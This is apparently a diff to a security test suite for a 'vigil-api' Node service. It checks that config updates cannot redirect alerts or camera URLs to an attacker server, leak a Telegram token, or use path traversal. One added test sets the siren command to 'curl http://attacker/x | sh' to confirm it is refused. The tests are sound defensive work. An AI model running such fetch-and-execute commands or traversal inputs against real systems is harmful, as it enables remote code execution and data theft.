@@ -86,7 +86,7 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
     const hub = (helper.getNode('s1') as unknown as { hub: SystemHub }).hub;
     const http = `http://127.0.0.1:${port}`;
     const api = helper.getNode('api') as unknown as { status: { lastCall?: { args: Array<{ fill?: string }> } } };
-    await until(() => api.status.lastCall?.args[0]?.fill === 'green', 'API listening');
+    await until(() => api.status.lastCall?.args[0]?.fill === 'green', 'API listening', 3000);
     const connect = async (): Promise<Client> => {
       const c = new Client(`ws://127.0.0.1:${port}/`);
       clients.push(c);
@@ -119,14 +119,14 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
       [[['data', 'config', 'alerters', 'telegram', 'api_key'], 'value_error.secret']],
     );
     assert.deepEqual(await c.ask({ command: 'test', data: { excluded: [] } }), { status: 'OK' });
-    await until(() => good.seen.length + evil.seen.length > 0, 'the test alert');
+    await until(() => good.seen.length + evil.seen.length > 0, 'the test alert', 3000);
     assert.equal(evil.seen.length, 0, 'nothing reached the changed API base');
     assert.match(good.seen[0].url, /^\/botSECRET-TOKEN-123\//);
     // Carrying the secret itself, the change is a plain reconfiguration: the stored token stays home.
     telegram.api_key = 'DECOY';
     assert.deepEqual(await c.ask({ command: 'config_update', data: { config: doc } }), { status: 'OK' });
     assert.deepEqual(await c.ask({ command: 'test', data: { excluded: [] } }), { status: 'OK' });
-    await until(() => evil.seen.length > 0, 'the test alert to the new base');
+    await until(() => evil.seen.length > 0, 'the test alert to the new base', 3000);
     assert.match(evil.seen[0].url, /^\/botDECOY\//);
     assert.ok(!JSON.stringify(evil.seen).includes('SECRET-TOKEN-123'));
   });
@@ -144,6 +144,7 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
     const doc = await config();
     (doc.alerters as unknown as Record<string, Record<string, unknown>>).siren.ssh_host = '127.0.0.2';
     doc.camera.url = `${evil.base}/video.mjpeg`;
+    const siren = (doc.alerters as unknown as Record<string, Record<string, unknown>>).siren;
     const refused = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
     assert.deepEqual(refused.map((e) => [e.loc, e.type]).sort(), [
       [['data', 'config', 'alerters', 'siren', 'ssh_host'], 'value_error.secret'],
@@ -153,6 +154,13 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
     assert.equal(hub.getConfig().camera?.url, `${cam.base}/video.mjpeg`, 'nothing applied');
     assert.equal((hub.getConfig().alerters.siren as Record<string, unknown>).ssh_host, '127.0.0.1');
     assert.deepEqual(evil.seen, []);
+    // Nor may a client choose the command the siren's credentials run on its host.
+    siren.ssh_host = '127.0.0.1';
+    doc.camera.url = `${cam.base}/video.mjpeg`;
+    siren.command = 'curl http://attacker/x | sh';
+    const cmd = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
+    assert.deepEqual(cmd.map((e) => e.loc), [['data', 'config', 'alerters', 'siren', 'command']]);
+    assert.equal((hub.getConfig().alerters.siren as Record<string, unknown>).command, 'aplay siren.wav -d 21');
   });
 
   it('item 4: silence and shutdown of 30 days do not end at once; above 366 days they are refused in the reference shape', async () => {
@@ -196,7 +204,7 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
     fs.writeFileSync(path.join(priv, 'b.jpg'), theirs);
     const cam = { id: 'cam', type: 'vigil-camera', system: 's1', source: 'file', url: path.join(pub, 'a.jpg'), fps: 1, wires: [[]] };
     const { hub, http, connect, config } = await deploy([cam]);
-    await until(() => hub.frame !== undefined, 'the first frame');
+    await until(() => hub.frame !== undefined, 'the first frame', 3000);
     const c = await connect();
     for (const url of [`${pub}/../private/b.jpg`, '../../../../../../../../' + path.join(priv, 'b.jpg'), priv, `file://${priv}/b.jpg`]) {
       const doc = await config();
